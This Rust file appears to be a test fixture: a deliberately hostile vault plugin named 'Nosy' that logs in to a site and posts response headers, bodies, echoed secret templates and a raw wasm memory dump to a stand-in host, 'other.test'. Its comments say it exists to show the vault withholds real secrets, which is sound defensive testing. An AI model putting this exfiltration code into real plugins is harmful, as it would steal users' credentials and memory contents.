//! Attacks the vault, for tests: logs in as an honest plugin does, and passes on what it finds.
//!
//! *Owns* reading everything that there is to read, all of its memory included, and sending that to another host that it
//! may contact.
//!
//! *Never* succeeds: what it sends holds the names of secrets in their places.
//!
//! Start reading at [`Nosy`].

use svc_plugin::{http::Response, prelude::*};

/// The site of the accounts.
const SITE: &str = "http://cloud.test";

/// The host that wants their secrets.
const OTHER: &str = "http://other.test";

/// The account: a slot of the manifest.
const SLOT: &str = "main";

/// What the site hands out, by the names that the vault has for it.
const SECRETS: [&str; 5] = ["access", "refresh", "session", "csrf", "password"];

/// Memory goes in pieces of this size: a request has a limit.
#[cfg(target_arch = "wasm32")]
const PIECE_BYTES: usize = 256 * 1024;

/// The plugin; as a value, a login from its first screen to its end.
#[derive(Debug)]
pub struct Nosy;

impl Login for Nosy {
    fn new(_: &str, _: Mode) -> Self {
        Self
    }

    fn start(&mut self, screen: &mut Screen<'_>) -> Result<()> {
        let page = http::get(format!("{SITE}/login")).account(SLOT);
        tell("form", &page.capture_form("input[name=csrf]", "csrf").send()?)?;
        screen.field("user", "User name").secret_field("password", "Password");
        Ok(())
    }

    fn answer(&mut self, values: &Answers, screen: &mut Screen<'_>) -> Result<()> {
        let user = values.text("user")?;
        let request = http::post(format!("{SITE}/api/login"))
            .account(SLOT)
            .text(&format!(r#"{{"user": "{user}"}}"#), "application/json")
            .secret_json("/password", &values.secret("password")?)
            .capture_json("/access_token", "access")
            .capture_json("/refresh_token", "refresh")
            .capture_cookie("session", "session");
        tell("login", &request.send()?)?;
        // Later on as before: what a site repeats is not shown either.
        for name in SECRETS.into_iter().filter(|name| vault::account(SLOT).has(name)) {
            let template = format!("{{{name}}}");
            let echo = http::post(format!("{SITE}/echo")).account(SLOT);
            let echo = echo.secret_query("q", &template).secret_header("x-secret", &template);
            tell(name, &echo.secret_form("f", &template).send()?)?;
        }
        dump()?;
        screen.done(user, user);
        Ok(())
    }

    fn check(slot: &str) -> Result<bool> {
        Ok(vault::account(slot).has("access"))
    }
}

impl Resolver for Nosy {
    fn resolve(_: &Call, out: &Listing<'_>) -> Result<()> {
        let echo = http::get(format!("{SITE}/echo")).account(SLOT);
        tell("resolve", &echo.secret_header("x-secret", "{access}").send()?)?;
        dump()?;
        out.title("all is told");
        Ok(())
    }
}

/// Sends what can be read of a response, in all the ways in which it can be.
fn tell(what: &str, response: &Response) -> Result<()> {
    let names = ["set-cookie", "location", "content-type", "www-authenticate", "x-secret"];
    let fields = names.map(|name| response.header(name));
    let found = response.select("input")?;
    let parts = response.regex("(?s)(.{1,100})", 1)?;
    let seen = format!(
        "{}\n{fields:?}\n{found:?}\n{parts:?}\n{}",
        response.url(),
        response.text()?
    );
    log::info(&seen);
    storage::set(what, seen.as_bytes(), None)?;
    let message = http::post(format!("{OTHER}/{what}")).text(&seen, "text/plain");
    message.send().map(drop)
}

/// Sends all of the memory but its first bytes, where nothing is.
#[cfg(target_arch = "wasm32")]
#[expect(unsafe_code, reason = "memory is read where no value of the program need be")]
fn dump() -> Result<()> {
    const PAGE_BYTES: usize = 64 * 1024;
    const FIRST: usize = 16;
    let end = core::arch::wasm32::memory_size(0) * PAGE_BYTES;
    for from in (FIRST..end).step_by(PIECE_BYTES) {
        let length = PIECE_BYTES.min(end - from);
        // SAFETY: all of it is memory, and nothing else runs that could change it.
        let piece = unsafe { core::slice::from_raw_parts(from as *const u8, length) };
        http::post(format!("{OTHER}/dump")).bytes(piece).send()?;
    }
    Ok(())
}

/// Outside the sandbox, the memory is that of the test.
#[cfg(not(target_arch = "wasm32"))]
fn dump() -> Result<()> {
    Err(Error::Unsupported("there is no memory of a guest".to_owned()))
}

svc_plugin::plugin!(Nosy: Resolver, Login);
